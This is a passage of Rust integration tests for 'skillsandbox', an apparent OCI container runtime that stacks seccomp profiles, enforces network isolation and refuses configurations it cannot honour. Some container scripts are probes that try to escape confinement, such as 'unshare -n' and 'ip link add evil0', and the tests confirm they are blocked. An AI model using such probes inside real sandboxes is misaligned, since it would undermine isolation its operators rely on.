    let out = text(&o.stdout);
    assert_eq!(code(&o), 0, "{out}{}", text(&o.stderr));
    assert_eq!(out, "1000\n1000\nCapEff:\t0000000000000000\nwrote\n");
    let m = std::fs::metadata(dir.path().join("f")).unwrap();
    assert_eq!((m.uid(), m.gid()), (1000, 1000));

    let cid = run_detached("skillsandbox", &["--user", "1000:1000"], &["sleep", "30"]);
    std::thread::sleep(Duration::from_millis(500));
    let same = docker(&["exec", &cid, "id"]);
    let other = docker(&["exec", "-u", "0", &cid, "id"]);
    docker(&["rm", "-f", &cid]);
    assert_eq!(
        text(&same.stdout),
        "uid=1000 gid=1000\n",
        "{}",
        text(&same.stderr)
    );
    assert_ne!(code(&other), 0);
    // docker exec prints the runtime's refusal on stdout.
    let said = format!("{}{}", text(&other.stdout), text(&other.stderr));
    assert!(
        said.contains("not the container's user 1000:1000"),
        "{said}"
    );
}

/// What the runtime cannot honour fails `docker run` at create, with the reason;
/// nothing runs.
#[test]
fn docker_refuses_a_plain_bind_and_a_supplementary_group() {
    if !ready() {
        return;
    }
    let cases: [(&[&str], &str); 2] = [
        (
            &["--mount", "type=bind,src=/tmp,dst=/d,bind-nonrecursive"],
            "as a non-recursive bind",
        ),
        (&["--group-add", "27"], "the supplementary group 27"),
    ];
    for (flags, reason) in cases {
        let mut args = vec![
            "run",
            "--rm",
            "--runtime",
            "skillsandbox",
            "--network",
            "none",
        ];
        args.extend_from_slice(flags);
        args.extend_from_slice(&[IMAGE, "echo", "ran"]);
        let o = docker(&args);
        assert_eq!(code(&o), 125, "{flags:?}: {}", text(&o.stderr));
        assert!(!text(&o.stdout).contains("ran"), "{flags:?}");
        assert!(
            text(&o.stderr).contains(reason),
            "{flags:?}: {}",
            text(&o.stderr)
        );
        assert!(text(&o.stderr).contains("not supported by skillsandbox oci"));
    }
}

/// A container run through the runtime CLI as the shim drives it (create, start,
/// wait until stopped): what it printed, its trace, and create's own result.
struct CliRun {
    create: Output,
    output: String,
    trace: Value,
    state: Value,
}

impl CliRun {
    /// `create` succeeded (else the run's checks would say nothing).
    fn assert_created(&self) {
        assert!(
            self.create.status.success(),
            "create: {}",
            text(&self.create.stderr)
        );
    }
}

/// A bundle of a static busybox (with `applets`) whose config.json is `base_config`
/// with `edit` applied, run to its end through `skillsandbox oci`.
fn cli_run(
    id: &str,
    script: &str,
    extra_global: &[&str],
    edit: impl FnOnce(&mut Value),
) -> Option<CliRun> {
    if !nix_is_root() {
        skip("the OCI runtime CLI tests need root");
        return None;
    }
    let Some(bb) = busybox() else {
        skip("no static busybox (apt-get install busybox-static)");
        return None;
    };
    let t = tempfile::tempdir().unwrap();
    let bundle = t.path().join("bundle");
    let rootfs = bundle.join("rootfs");
    for d in ["bin", "etc", "tmp", "proc", "dev"] {
        std::fs::create_dir_all(rootfs.join(d)).unwrap();
    }
    for f in ["etc/resolv.conf", "etc/hosts", "etc/hostname"] {
        std::fs::write(rootfs.join(f), "").unwrap();
    }
    std::fs::copy(&bb, rootfs.join("bin/busybox")).unwrap();
    for a in [
        "sh", "echo", "mkdir", "uname", "unshare", "ip", "cat", "ls", "true", "wget", "timeout",
    ] {
        std::os::unix::fs::symlink("busybox", rootfs.join("bin").join(a)).unwrap();
    }
    let mut config = serde_json::json!({
        "ociVersion": "1.0.2",
        "process": {"user": {"uid": 0, "gid": 0}, "cwd": "/", "env": ["PATH=/bin"],
                    "args": ["sh", "-c", script]},
        "root": {"path": "rootfs"},
        "hostname": "clirun",
        "linux": {"namespaces": [{"type": "pid"}, {"type": "network"}, {"type": "mount"}]},
    });
    edit(&mut config);
    std::fs::write(bundle.join("config.json"), config.to_string()).unwrap();
    let root = t.path().join("state");
    let traces = t.path().join("traces");
    let oci = |args: &[&str], out: Option<&Path>| {
        let mut c = skillsandbox();
        c.args(["oci", "--root"]).arg(&root);
        c.arg("--trace-dir").arg(&traces);
        c.arg("--audit-log").arg(t.path().join("audit.log"));
        c.args(extra_global);
        c.args(args).stdin(Stdio::null());
        if let Some(out) = out {
            // The supervisor keeps create's stdio (the container's): a file, not a
            // pipe `output` would wait on until the container ends.
            let f = std::fs::File::create(out).unwrap();
            c.stdout(f.try_clone().unwrap()).stderr(f);
            let status = c.status().unwrap();
            let mut o = Command::new("true").output().unwrap();
            o.status = status;
            o.stderr = std::fs::read(out).unwrap_or_default();
            return o;
        }
        c.output().unwrap()
    };
    let out = t.path().join("container.out");
    let b = bundle.display().to_string();
    let create = oci(&["create", "--bundle", &b, id], Some(&out));
    if !create.status.success() {
        return Some(CliRun {
            create,
            output: String::new(),
            trace: Value::Null,
            state: Value::Null,
        });
    }
    let state = || -> Value {
        let o = oci(&["state", id], None);
        assert!(o.status.success(), "state: {}", text(&o.stderr));
        serde_json::from_slice(&o.stdout).unwrap()
    };
    let created = state();
    let o = oci(&["start", id], None);
    assert!(o.status.success(), "start: {}", text(&o.stderr));
    let deadline = Instant::now() + Duration::from_secs(20);
    while state()["status"] != "stopped" {
        assert!(Instant::now() < deadline, "still {}", state());
        std::thread::sleep(Duration::from_millis(20));
    }
    let s = state();
    let trace_path = s["annotations"]["skillsandbox.trace"]
        .as_str()
        .unwrap_or_else(|| panic!("no trace in {s}"))
        .to_string();
    let trace: Value =
        serde_json::from_str(&std::fs::read_to_string(&trace_path).unwrap()).unwrap();
    assert!(oci(&["delete", id], None).status.success());
    Some(CliRun {
        create,
        output: std::fs::read_to_string(&out).unwrap_or_default(),
        trace,
        state: created,
    })
}

fn layer<'a>(trace: &'a Value, name: &str) -> &'a Value {
    trace["enforcement"]
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["layer"] == name)
        .unwrap_or_else(|| panic!("no {name} layer in {trace}"))
}

// busybox's uname prints an empty name when uname(2) fails: compare the name.
const SECCOMP_PROBE: &str =
    "mkdir /tmp/d && echo MKDIR-OK; [ \"$(uname -n)\" = clirun ] && echo UNAME-OK; \
                             unshare -n true && echo UNSHARE-OK; echo DONE";

/// The spec's seccomp profile is stacked on ours: what it refuses (mkdir, uname,
/// which ours allows) fails in the container, and the trace says it was stacked.
#[test]
fn oci_cli_the_specs_seccomp_profile_is_stacked_on_ours() {
    // Control: without a spec profile, mkdir and uname work (so the check below can fail).
    let Some(plain) = cli_run("sc-plain", SECCOMP_PROBE, &[], |_| {}) else {
        return;
    };
    plain.assert_created();
    assert!(
        plain.output.contains("MKDIR-OK") && plain.output.contains("UNAME-OK"),
        "{}",
        plain.output
    );
    assert!(plain.output.contains("DONE"), "{}", plain.output);
    let Some(r) = cli_run("sc-deny", SECCOMP_PROBE, &[], |c| {
        c["linux"]["seccomp"] = serde_json::json!({
            "defaultAction": "SCMP_ACT_ALLOW",
            "architectures": ["SCMP_ARCH_X86_64", "SCMP_ARCH_X86", "SCMP_ARCH_X32", "SCMP_ARCH_AARCH64"],
            "syscalls": [
                {"names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1},
                {"names": ["uname"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1},
                // Ours refuses it too: left to ours, so it is still recorded.
                {"names": ["unshare"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1}
            ]
        });
    }) else {
        return;
    };
    r.assert_created();
    assert!(r.output.contains("DONE"), "{}", r.output);
    assert!(
        !r.output.contains("MKDIR-OK"),
        "mkdir passed the spec's filter: {}",
        r.output
    );
    assert!(
        !r.output.contains("UNAME-OK"),
        "uname passed the spec's filter: {}",
        r.output
    );
    assert!(r.output.contains("Operation not permitted"), "{}", r.output);
    // Ours still applies, and records what both refuse.
    assert!(!r.output.contains("UNSHARE-OK"), "{}", r.output);
    assert!(
        violations(&r.trace).iter().any(|v| v.contains("unshare")),
        "{}",
        r.trace
    );
    let l = layer(&r.trace, "seccomp");
    assert_eq!(l["status"], "enforced", "{l}");
    let detail = l["detail"].as_str().unwrap();
    assert!(
        detail.contains("linux.seccomp stacked (3 rules, default allow)")
            && detail.contains("1 syscalls ours always refuses left to ours"),
        "{detail}"
    );
    assert!(!layer(&plain.trace, "seccomp")["detail"]
        .as_str()
        .unwrap()
        .contains("stacked"));
}

/// A spec profile that allows everything does not loosen ours: `unshare` is still
/// refused, and recorded as a violation.
#[test]
fn oci_cli_an_allow_all_spec_profile_does_not_loosen_ours() {
    let Some(r) = cli_run("sc-allow", SECCOMP_PROBE, &[], |c| {
        c["linux"]["seccomp"] = serde_json::json!({"defaultAction": "SCMP_ACT_ALLOW"});
    }) else {
        return;
    };
    r.assert_created();
    assert!(
        r.output.contains("DONE") && r.output.contains("MKDIR-OK"),
        "{}",
        r.output
    );
    assert!(
        !r.output.contains("UNSHARE-OK"),
        "unshare passed: {}",
        r.output
    );
    assert!(
        violations(&r.trace).iter().any(|v| v.contains("unshare")),
        "{}",
        r.trace
    );
    assert!(layer(&r.trace, "seccomp")["detail"]
        .as_str()
        .unwrap()
        .contains("stacked (0 rules, default allow)"));
}

/// What the spec's profile asks for and SkillSandbox cannot honour fails the create
/// with the reason; nothing runs.
#[test]
fn oci_cli_refuses_a_seccomp_profile_it_cannot_honour() {
    for (id, profile, needle) in [
        (
            "sc-trace",
            serde_json::json!({"defaultAction": "SCMP_ACT_ALLOW",
                "syscalls": [{"names": ["mkdir"], "action": "SCMP_ACT_TRACE"}]}),
            "SCMP_ACT_TRACE",
        ),
        (
            "sc-listener",
            serde_json::json!({"defaultAction": "SCMP_ACT_ALLOW", "listenerPath": "/run/agent.sock"}),
            "listenerPath",
        ),
    ] {
        let Some(r) = cli_run(id, "echo RAN", &[], |c| c["linux"]["seccomp"] = profile) else {
            return;
        };
        assert!(!r.create.status.success(), "{id}: created");
        let err = text(&r.create.stderr);
        assert!(
            err.contains(needle) && err.contains("not supported"),
            "{id}: {err}"
        );
        assert!(!r.output.contains("RAN"));
    }
}

/// A named network namespace made for a test (`ip netns add`), with a dummy
/// interface pair as a marker; removed on drop.
struct TestNetns {
    name: String,
}

impl TestNetns {
    fn new(name: &str, marker: &str) -> Option<TestNetns> {
        let ip = |args: &[&str]| Command::new("ip").args(args).output().ok();
        let _ = ip(&["netns", "delete", name]);
        let ok = ip(&["netns", "add", name]).is_some_and(|o| o.status.success());
        if !ok {
            skip("ip netns add failed (iproute2, root)");
            return None;
        }
        let ns = TestNetns { name: name.into() };
        // A veth pair: the marker is its name (no dummy module on every host).
        let peer = format!("{marker}p");
        let o = ip(&[
            "-n", name, "link", "add", marker, "type", "veth", "peer", "name", &peer,
        ])
        .unwrap();
        assert!(o.status.success(), "ip link add: {}", text(&o.stderr));
        Some(ns)
    }

    fn path(&self) -> String {
        format!("/var/run/netns/{}", self.name)
    }

    fn has_link(&self, link: &str) -> bool {
        Command::new("ip")
            .args(["-n", &self.name, "link", "show", link])
            .output()
            .is_ok_and(|o| o.status.success())
    }
}

impl Drop for TestNetns {
    fn drop(&mut self) {
        let _ = Command::new("ip")
            .args(["netns", "delete", &self.name])
            .output();
    }
}

const NET_PROBE: &str =
    "cat /proc/net/dev; ip link add evil0 type veth peer name evil1 && echo ADDED; echo DONE";

/// `skillsandbox.network=engine` with a namespace path: the container is in that
/// namespace (it sees its marker interface), cannot reconfigure it, and the trace
/// and state say SkillSandbox does not enforce egress.
#[test]
fn oci_cli_engine_network_joins_the_specs_namespace() {
    let Some(ns) = TestNetns::new("ss-oci-engine", "ssmark0") else {
        return;
    };
    let path = ns.path();
    let Some(r) = cli_run("net-engine", NET_PROBE, &[], |c| {
        c["linux"]["namespaces"] = serde_json::json!([{"type": "pid"}, {"type": "mount"},
            {"type": "network", "path": path}]);
        c["annotations"] = serde_json::json!({"skillsandbox.network": "engine"});
    }) else {
        return;
    };
    r.assert_created();
    assert!(r.output.contains("DONE"), "{}", r.output);
    assert!(
        r.output.contains("ssmark0"),
        "not in the engine's namespace: {}",
        r.output
    );
    assert!(
        !r.output.contains("ADDED"),
        "reconfigured the engine's namespace: {}",
        r.output
    );
    assert!(!ns.has_link("evil0"));
    assert_eq!(
        r.state["annotations"]["skillsandbox.network"], "engine",
        "{}",
        r.state
    );
    let l = layer(&r.trace, "network");
    assert_eq!(l["status"], "unavailable", "{l}");
    let d = l["detail"].as_str().unwrap();
    assert!(
        d.contains("not enforced by SkillSandbox: opted out by skillsandbox.network=engine")
            && d.contains(&ns.path()),
        "{d}"
    );

    // Control: ours (no opt-in) does not see the engine's namespace.
    let path = ns.path();
    let Some(ours) = cli_run("net-ours", NET_PROBE, &[], |c| {
        c["linux"]["namespaces"] = serde_json::json!([{"type": "network", "path": path}]);
    }) else {
        return;
    };
    ours.assert_created();
    assert!(
        ours.output.contains("DONE") && !ours.output.contains("ssmark0"),
        "{}",
        ours.output
    );
    assert_eq!(
        ours.state["annotations"]["skillsandbox.network"],
        "skillsandbox"
    );
    assert_eq!(layer(&ours.trace, "network")["status"], "enforced");
}

/// The runtime-level flag (`--default-network engine`, for Docker 20.10) without a
/// namespace path: a new namespace, loopback only.
#[test]
fn oci_cli_engine_network_flag_without_a_path_is_a_new_namespace() {
    let Some(r) = cli_run(
        "net-flag",
        "cat /proc/net/dev; echo DONE",
        &["--default-network", "engine"],
        |_| {},
    ) else {
        return;
    };
    r.assert_created();
    assert!(
        r.output.contains("DONE") && r.output.contains("lo:"),
        "{}",
        r.output
    );
    let links = r.output.lines().filter(|l| l.contains(':')).count();
    assert_eq!(links, 1, "more than loopback: {}", r.output);
    assert_eq!(r.state["annotations"]["skillsandbox.network"], "engine");
    let d = layer(&r.trace, "network")["detail"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(d.contains("a new network namespace, loopback only"), "{d}");
}

/// What the engine opt-in cannot honour fails the create: the host's own namespace,
/// no namespace at all (host network), a manifest with network rules.
#[test]
fn oci_cli_engine_network_refusals() {
    let manifest = "skill: {name: n, version: \"0.1.0\"}\n\
                    permissions:\n  network:\n    egress:\n      - domain: a.test\n\
                    entrypoint: {command: \"true\"}\n";
    let cases: Vec<(&str, Value, &str)> = vec![
        (
            "net-host-path",
            serde_json::json!([{"type": "network", "path": "/proc/self/ns/net"}]),
            "host's own network namespace",
        ),
        (
            "net-none",
            serde_json::json!([{"type": "pid"}]),
            "host network",
        ),
        (
            "net-not-ns",
            serde_json::json!([{"type": "network", "path": "/dev/null"}]),
            "not a namespace file",
        ),
        (
            "net-regular-file",
            serde_json::json!([{"type": "network", "path": "/etc/hostname"}]),
            "setns",
        ),
        (
            "net-contradiction",
            serde_json::json!([{"type": "network"}]),
            "contradiction",
        ),
    ];
    for (id, namespaces, needle) in cases {
        let Some(r) = cli_run(id, "echo RAN", &[], |c| {
            c["linux"]["namespaces"] = namespaces;
            c["annotations"] = serde_json::json!({"skillsandbox.network": "engine"});
            if id == "net-contradiction" {
                c["annotations"]["skillsandbox.manifest.inline"] = manifest.into();
            }
        }) else {
            return;
        };
        assert!(!r.create.status.success(), "{id}: created");
        let err = text(&r.create.stderr);
        assert!(err.contains(needle), "{id}: {err}");
        assert!(!r.output.contains("RAN"), "{id}");
    }
}

/// `docker run --security-opt seccomp=PROFILE`: the user's profile is stacked on ours.
/// What it refuses (mkdir, which ours allows) fails; what ours refuses (unshare)
/// stays refused; Docker's default profile (the control run) lets mkdir through.
#[test]
fn docker_security_opt_seccomp_profile_is_stacked_on_ours() {
    if !ready() {
        return;
    }
    let script = "mkdir /tmp/d && echo MKDIR-OK; unshare -n true && echo UNSHARE-OK; echo DONE";
    let (o, cid) = run("skillsandbox", &[], script);
    let out = text(&o.stdout);
    assert!(
        out.contains("MKDIR-OK") && out.contains("DONE"),
        "{out}{}",
        text(&o.stderr)
    );
    assert!(!out.contains("UNSHARE-OK"), "{out}");
    // Docker's default profile is in the spec: stacked too.
    let d = layer(&trace_of(&cid), "seccomp")["detail"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(d.contains("linux.seccomp stacked"), "{d}");

    let t = tempfile::tempdir().unwrap();
    let profile = t.path().join("profile.json");
    std::fs::write(
        &profile,
        serde_json::json!({
            "defaultAction": "SCMP_ACT_ALLOW",
            "syscalls": [{"names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1}]
        })
        .to_string(),
    )
    .unwrap();
    let opt = format!("seccomp={}", profile.display());
    let (o, cid) = run("skillsandbox", &["--security-opt", &opt], script);
    let out = text(&o.stdout);
    assert!(out.contains("DONE"), "{out}{}", text(&o.stderr));
    assert!(
        !out.contains("MKDIR-OK"),
        "mkdir passed the user's profile: {out}"
    );
    assert!(!out.contains("UNSHARE-OK"), "unshare passed ours: {out}");
    let d = layer(&trace_of(&cid), "seccomp")["detail"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(d.contains("stacked (2 rules, default allow)"), "{d}");
}
